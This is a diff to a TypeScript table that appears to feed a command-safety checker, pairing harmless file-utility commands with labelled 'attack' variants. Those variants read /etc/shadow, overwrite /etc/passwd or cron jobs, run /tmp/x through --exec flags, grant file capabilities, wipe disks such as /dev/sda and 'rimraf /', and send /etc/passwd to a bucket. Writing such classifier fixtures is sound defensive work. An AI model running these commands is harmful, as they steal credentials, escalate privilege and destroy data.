@@ -2,10 +2,10 @@ import type { ExampleTable } from './example.ts'
 
 export const fileTools: ExampleTable = {
   file: {
-    use: 'file -f notes.txt src → read notes.txt',
+    use: 'file -f names.txt → read names.txt',
     attack: [
-      'file -f /etc/shadow src → read /etc/shadow',
-      'file -m /etc/shadow src → read /etc/shadow',
+      'file -f /etc/shadow → read /etc/shadow',
+      'file -m /etc/shadow notes.txt → read /etc/shadow',
     ],
   },
   setfacl: {
@@ -13,19 +13,22 @@ export const fileTools: ExampleTable = {
     attack: [
       'setfacl -m o::rw /etc/shadow → open-to-all /etc/shadow',
       'setfacl -m u:eve:rw /etc/shadow → chown /etc/shadow',
-      'setfacl --restore=/etc/shadow → read /etc/shadow',
     ],
   },
   setfattr: {
-    use: 'setfattr --restore notes.txt → read notes.txt',
-    attack: 'setfattr --restore /etc/shadow → read /etc/shadow',
+    use: [
+      'setfattr -n user.note -v draft notes.txt → nothing',
+      'setfattr --restore=attributes.txt → read attributes.txt',
+    ],
+    attack:
+      'setfattr -n security.capability -v 0sAQAAAgCAAAAAAAAAAAAAAAAAAAA= /usr/bin/python3 → privilege /usr/bin/python3',
   },
   touch: { use: 'touch notes.txt → nothing' },
   tree: {
-    use: 'tree -o out.txt src → write out.txt',
+    use: 'tree -o tree.txt src → write tree.txt',
     attack: [
-      'tree -o /etc/cron.d/job src → write /etc/cron.d/job',
-      'tree --fromfile /etc/shadow src → read /etc/shadow',
+      'tree -o /etc/passwd src → write /etc/passwd',
+      'tree --fromfile /etc/shadow → read /etc/shadow',
     ],
   },
   fzf: {
@@ -35,10 +38,7 @@ export const fileTools: ExampleTable = {
       'fzf --history /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
-  locate: {
-    use: 'locate -d own.db notes → read own.db',
-    attack: 'locate -d /etc/shadow → read /etc/shadow',
-  },
+  locate: { use: 'locate -d own.db notes → read own.db' },
   peco: {
     use: 'peco notes.txt → read notes.txt',
     attack: [
@@ -51,72 +51,60 @@ export const fileTools: ExampleTable = {
     attack: 'percol /etc/shadow → read /etc/shadow',
   },
   sk: {
-    use: `sk -c 'cat notes.txt' → read notes.txt`,
+    use: `sk -c 'git ls-files' → nothing`,
     attack: `sk -c 'cat /etc/shadow' → read /etc/shadow`,
   },
   updatedb: {
-    use: 'updatedb -o own.db → write own.db',
-    attack: 'updatedb -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'updatedb -l 0 -o own.db -U src → write own.db',
+    attack: 'updatedb -o /etc/passwd → write /etc/passwd',
   },
   agedu: {
     use: 'agedu -s src -f agedu.dat → write agedu.dat',
-    attack: 'agedu -s src -f /etc/cron.d/job → write /etc/cron.d/job',
+    attack: 'agedu -s src -f /etc/passwd → write /etc/passwd',
   },
   du: {
-    use: 'du -X notes.txt src → read notes.txt',
-    attack: [
-      'du -X /etc/shadow src → read /etc/shadow',
-      'du --files0-from /etc/shadow src → read /etc/shadow',
-    ],
+    use: 'du -sh -X exclude.txt src → read exclude.txt',
+    attack: 'du --files0-from=/etc/shadow → read /etc/shadow',
   },
   gdu: {
-    use: 'gdu -o out.txt src → write out.txt',
-    attack: [
-      'gdu -o /etc/cron.d/job src → write /etc/cron.d/job',
-      'gdu -l /etc/cron.d/job src → write /etc/cron.d/job',
-    ],
+    use: 'gdu -o report.json src → write report.json',
+    attack: 'gdu -o /etc/passwd src → write /etc/passwd',
   },
   ncdu: {
-    use: 'ncdu -o out.txt src → write out.txt',
-    attack: [
-      'ncdu -o /etc/cron.d/job src → write /etc/cron.d/job',
-      'ncdu -f /etc/shadow src → read /etc/shadow',
-    ],
+    use: 'ncdu -x -o report.json src → write report.json',
+    attack: 'ncdu -o /etc/passwd src → write /etc/passwd',
   },
   rdfind: {
-    use: 'rdfind -outputname out.txt src → write out.txt',
-    attack: 'rdfind -outputname /etc/cron.d/job src → write /etc/cron.d/job',
+    use: 'rdfind -outputname results.txt src → write results.txt',
+    attack: 'rdfind -outputname /etc/passwd src → write /etc/passwd',
   },
-  brename: {
-    use: 'brename -p a -r b old.txt → replace old.txt',
-    attack: 'brename -k /etc/shadow old.txt → read /etc/shadow; replace old.txt',
-  },
+  brename: { use: `brename -p '\\.jpeg$' -r .jpg photos → replace photos` },
   convmv: {
-    use: 'convmv -f latin1 -t utf8 src → nothing',
-    attack: 'convmv --exec /tmp/x src → run /tmp/x',
+    use: 'convmv -f latin1 -t utf8 -r src → nothing',
+    attack: `convmv -f latin1 -t utf8 --exec '/tmp/x #2' src → run /tmp/x`,
   },
   cpx: {
-    use: 'cpx notes.txt out.txt → read notes.txt; write out.txt',
+    use: `cpx 'src/*.html' dist → read src/*.html; write dist`,
     attack: [
-      'cpx /etc/shadow out.txt → read /etc/shadow; write out.txt',
-      `cpx -c 'cat /etc/shadow' notes.txt out.txt → read /etc/shadow; read notes.txt; write out.txt`,
+      'cpx /etc/shadow dist → read /etc/shadow; write dist',
+      `cpx -c 'cat /etc/shadow' 'src/*.html' dist → read /etc/shadow; write dist`,
     ],
   },
   cpy: {
-    use: 'cpy notes.txt out.txt → read notes.txt; write out.txt',
-    attack: 'cpy /etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'cpy notes.txt dist → read notes.txt; write dist',
+    attack: 'cpy /etc/shadow dist → read /etc/shadow; write dist',
   },
   ditto: {
-    use: 'ditto src out.txt → read-tree src; write out.txt',
-    attack: 'ditto /root out.txt → read-tree /root; write out.txt',
+    use: 'ditto src copy → read-tree src; write copy',
+    attack: 'ditto /root copy → read-tree /root; write copy',
   },
   'install-sh': {
-    use: 'install-sh notes.txt out.txt → read notes.txt; write out.txt',
-    attack: 'install-sh /etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'install-sh -c notes.txt doc → read notes.txt; write doc',
+    attack: 'install-sh -c job.txt /etc/cron.d/job → read job.txt; write /etc/cron.d/job',
   },
   pcp: {
-    use: 'pcp notes.txt out.txt → read notes.txt; write out.txt',
-    attack: 'pcp /etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'pcp notes.txt copy.txt → read notes.txt; write copy.txt',
+    attack: 'pcp /etc/shadow copy.txt → read /etc/shadow; write copy.txt',
   },
   qmv: { use: 'qmv -e vim src → nothing', attack: 'qmv -e /tmp/x src → run /tmp/x' },
   rename: {
@@ -128,8 +116,8 @@ export const fileTools: ExampleTable = {
     attack: 'truncate -s 0 /etc/passwd → write /etc/passwd',
   },
   xcp: {
-    use: 'xcp notes.txt out.txt → read notes.txt; write out.txt',
-    attack: 'xcp /etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'xcp notes.txt copy.txt → read notes.txt; write copy.txt',
+    attack: 'xcp /etc/shadow copy.txt → read /etc/shadow; write copy.txt',
   },
   bleachbit: {
     use: 'bleachbit -s old.txt → write old.txt; delete old.txt',
@@ -141,11 +129,8 @@ export const fileTools: ExampleTable = {
     attack: 'gvfs-trash /etc/passwd → delete-tree /etc/passwd',
   },
   nwipe: {
-    use: 'nwipe -l out.txt src → write out.txt',
-    attack: [
-      'nwipe -l /etc/cron.d/job src → write /etc/cron.d/job',
-      'nwipe --autonuke src → destroy nwipe',
-    ],
+    use: 'nwipe -l wipe.log /dev/sdb → write wipe.log',
+    attack: 'nwipe --autonuke /dev/sda → destroy nwipe',
   },
   rimraf: { use: 'rimraf build → delete-tree build', attack: 'rimraf / → delete-tree /' },
   rip: {
@@ -157,15 +142,12 @@ export const fileTools: ExampleTable = {
     attack: 'rmtrash /etc/passwd → delete-tree /etc/passwd',
   },
   scrub: {
-    use: 'scrub out.txt → write out.txt',
-    attack: 'scrub /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'scrub -p dod old.txt → write old.txt',
+    attack: 'scrub -p dod /dev/sda → write /dev/sda',
   },
   shred: {
     use: 'shred -u old.txt → write old.txt; delete old.txt',
-    attack: [
-      'shred /etc/passwd → write /etc/passwd',
-      'shred --random-source /etc/shadow old.txt → read /etc/shadow; write old.txt',
-    ],
+    attack: ['shred /etc/passwd → write /etc/passwd', 'shred -v /dev/sda → write /dev/sda'],
   },
   srm: {
     use: 'srm old.txt → write old.txt; delete old.txt',
@@ -188,26 +170,20 @@ export const fileTools: ExampleTable = {
     attack: 'wipe /etc/passwd → write /etc/passwd; delete /etc/passwd',
   },
   broot: {
-    use: 'broot --conf app.conf src → read app.conf',
-    attack: [
-      `broot -c '!/tmp/x' → run /tmp/x`,
-      'broot --outcmd /etc/cron.d/job src → write /etc/cron.d/job',
-    ],
+    use: 'broot --conf broot.toml src → read broot.toml',
+    attack: 'broot --outcmd /etc/cron.d/job src → write /etc/cron.d/job',
   },
-  clifm: {
-    use: 'clifm -c app.conf src → read app.conf',
-    attack: 'clifm -c /etc/shadow src → read /etc/shadow',
-  },
+  clifm: { use: 'clifm -c clifmrc src → read clifmrc' },
   gentoo: { use: 'gentoo src → nothing', attack: `gentoo -r '!/tmp/x' → run /tmp/x` },
   joshuto: {
     use: 'joshuto --output-file out.txt src → write out.txt',
     attack: 'joshuto --output-file /etc/cron.d/job src → write /etc/cron.d/job',
   },
   lf: {
-    use: 'lf --config app.txt src → read app.txt',
+    use: 'lf -config lfrc src → read lfrc',
     attack: [
-      `lf --command '!/tmp/x' → run /tmp/x`,
-      'lf --last-dir-path /etc/cron.d/job src → write /etc/cron.d/job',
+      `lf -command '!/tmp/x' → run /tmp/x`,
+      'lf -last-dir-path /etc/cron.d/job src → write /etc/cron.d/job',
     ],
   },
   mc: {
@@ -219,19 +195,19 @@ export const fileTools: ExampleTable = {
   },
   'mc cat': {
     use: 'mc cat play/bucket/notes.txt → fetch play/bucket/notes.txt',
-    attack: 'mc cat file:///etc/shadow → read /etc/shadow',
+    attack: 'mc cat /etc/shadow → read /etc/shadow',
   },
   'mc cp': {
     use: 'mc cp notes.txt play/bucket → read notes.txt; send play/bucket',
     attack: 'mc cp /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
   },
   'mc get': {
-    use: 'mc get play/bucket/a out.txt → fetch play/bucket/a; write out.txt',
-    attack: 'mc get play/bucket/a /etc/cron.d/job → fetch play/bucket/a; write /etc/cron.d/job',
+    use: 'mc get play/bucket/notes.txt notes.txt → fetch play/bucket/notes.txt; write notes.txt',
+    attack: 'mc get play/bucket/job /etc/cron.d/job → fetch play/bucket/job; write /etc/cron.d/job',
   },
   'mc head': {
-    use: 'mc head play/bucket/a → fetch play/bucket/a',
-    attack: 'mc head file:///etc/shadow → read /etc/shadow',
+    use: 'mc head -n 5 play/bucket/notes.txt → fetch play/bucket/notes.txt',
+    attack: 'mc head /etc/shadow → read /etc/shadow',
   },
   'mc mirror': {
     use: 'mc mirror src play/bucket → read src; send play/bucket',
@@ -249,15 +225,15 @@ export const fileTools: ExampleTable = {
     use: 'nnn -p out.txt src → write out.txt',
     attack: 'nnn -p /etc/cron.d/job src → write /etc/cron.d/job',
   },
-  ranger: { use: 'ranger src → nothing', attack: `ranger --cmd '!/tmp/x' → run /tmp/x` },
+  ranger: { use: 'ranger src → nothing', attack: `ranger --cmd='shell /tmp/x' → run /tmp/x` },
   rifle: {
     use: 'rifle notes.txt → read notes.txt',
     attack: [
       'rifle /etc/shadow → read /etc/shadow',
-      'rifle -c /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
+      `rifle -w 'cat /etc/shadow' notes.txt → read /etc/shadow; read notes.txt`,
     ],
   },
-  vifm: { use: 'vifm src → nothing', attack: `vifm -c ':!/tmp/x' → run /tmp/x` },
+  vifm: { use: 'vifm src → nothing', attack: `vifm -c '!/tmp/x' → run /tmp/x` },
   xplr: {
     use: 'xplr -c app.lua src → read app.lua',
     attack: 'xplr -c /etc/shadow src → read /etc/shadow',
@@ -270,58 +246,61 @@ export const fileTools: ExampleTable = {
     ],
   },
   air: {
-    use: 'air -c app.conf → read app.conf',
+    use: 'air -c .air.toml → read .air.toml',
     attack: [
       `air --build.cmd 'cat /etc/shadow' → read /etc/shadow`,
-      'air -c /etc/shadow → read /etc/shadow',
+      'air -c /tmp/air.toml → run /tmp/air.toml',
     ],
   },
   chokidar: {
-    use: `chokidar src -c 'cat notes.txt' → read notes.txt`,
-    attack: `chokidar src -c 'cat /etc/shadow' → read /etc/shadow`,
+    use: `chokidar 'src/*.md' -c 'cat notes.txt' → read notes.txt`,
+    attack: `chokidar 'src/*.md' -c 'cat /etc/shadow' → read /etc/shadow`,
   },
   fatrace: {
     use: 'fatrace -o out.txt → write out.txt',
     attack: 'fatrace -o /etc/cron.d/job → write /etc/cron.d/job',
   },
   filewatcher: {
-    use: `filewatcher src 'cat notes.txt' → read notes.txt`,
-    attack: `filewatcher a 'cat /etc/shadow' → read /etc/shadow`,
+    use: `filewatcher '*.md' 'cat notes.txt' → read notes.txt`,
+    attack: `filewatcher '*.md' 'cat /etc/shadow' → read /etc/shadow`,
   },
   incrond: {
-    use: 'incrond -f jobs.conf → read jobs.conf',
+    use: 'incrond -f incron.conf → read incron.conf',
     attack: 'incrond -f /tmp/x → run /tmp/x; read /tmp/x',
   },
   incrontab: {
     use: 'incrontab -l → nothing',
-    attack: 'incrontab /etc/shadow → read /etc/shadow; write /var/spool/cron/crontabs/user',
+    attack: `echo '/tmp IN_CREATE /tmp/x' | incrontab - → write /var/spool/cron/crontabs/user`,
   },
   inotifywatch: {
-    use: 'inotifywatch --fromfile notes.txt src → read notes.txt',
-    attack: 'inotifywatch --fromfile /etc/shadow src → read /etc/shadow',
+    use: 'inotifywatch --fromfile names.txt → read names.txt',
+    attack: 'inotifywatch --fromfile /etc/shadow → read /etc/shadow',
   },
   iwatch: {
-    use: 'iwatch -f app.conf src → read app.conf',
-    attack: ['iwatch -c /tmp/x src → run /tmp/x', 'iwatch -f /etc/shadow src → read /etc/shadow'],
+    use: 'iwatch -f iwatch.xml → read iwatch.xml',
+    attack: [
+      'iwatch -c /tmp/x -e modify src → run /tmp/x',
+      'iwatch -f /tmp/iwatch.xml → run /tmp/iwatch.xml',
+    ],
   },
   modd: {
     use: 'modd -f modd.conf → read modd.conf',
-    attack: 'modd -f /etc/shadow → read /etc/shadow',
+    attack: 'modd -f /tmp/modd.conf → run /tmp/modd.conf',
   },
   onchange: {
-    use: 'onchange src cat notes.txt → read notes.txt',
-    attack: 'onchange src cat /etc/shadow → read /etc/shadow',
+    use: `onchange 'src/*.md' -- cat notes.txt → read notes.txt`,
+    attack: `onchange 'src/*.md' -- cat /etc/shadow → read /etc/shadow`,
   },
   reflex: {
-    use: 'reflex cat notes.txt → read notes.txt',
+    use: `reflex -r '\\.md$' cat notes.txt → read notes.txt`,
     attack: [
-      'reflex cat /etc/shadow → read /etc/shadow',
-      'reflex -c /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
+      `reflex -r '\\.md$' cat /etc/shadow → read /etc/shadow`,
+      'reflex -c /tmp/reflex.conf → run /tmp/reflex.conf',
     ],
   },
   watchman: {
-    use: 'watchman -o out.txt → write out.txt',
-    attack: 'watchman -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'watchman -f -o watchman.log → write watchman.log',
+    attack: 'watchman -f -o /etc/cron.d/job → write /etc/cron.d/job',
   },
   'watchman-make': {
     use: `watchman-make -p '*.c' -r 'cat notes.txt' → read notes.txt`,
@@ -333,5 +312,19 @@ export const fileTools: ExampleTable = {
   'when-changed': {
     use: `when-changed src 'cat notes.txt' → read notes.txt`,
     attack: `when-changed src 'cat /etc/shadow' → read /etc/shadow`,
+  },
+  fd: {
+    use: 'fd -e md . docs → nothing',
+    attack: 'fd passwd -x cat /etc/shadow → read /etc/shadow',
+  },
+  sfill: { attack: 'sfill / → destroy /' },
+  sswap: { attack: 'sswap /dev/sda2 → write /dev/sda2' },
+  'mc find': {
+    use: `mc find play/bucket --name '*.md' → nothing`,
+    attack: 'mc find play/bucket --exec /tmp/x → run /tmp/x',
+  },
+  'mc pipe': {
+    use: 'echo hello | mc pipe play/bucket/hello.txt → send play/bucket/hello.txt',
+    attack: 'cat /etc/passwd | mc pipe play/bucket/x → send play/bucket/x',
   },
 }
